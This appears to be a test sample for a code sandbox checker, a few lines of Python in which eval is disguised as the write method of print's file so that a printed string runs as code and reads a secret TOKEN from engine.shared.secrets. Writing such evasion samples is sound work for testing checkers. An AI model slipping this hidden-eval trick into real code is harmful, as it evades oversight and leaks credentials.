#: channel = dynamic-code
#: reaches = engine
#: layer = check
#: note = eval as the write method of print's file

class Sink:
    write = staticmethod(lambda text, f=eval: f(text) if "import" in text else None)


async def run(context):
    print("print(__import__('engine.shared.secrets').shared.secrets.TOKEN)", file=Sink(), end="")
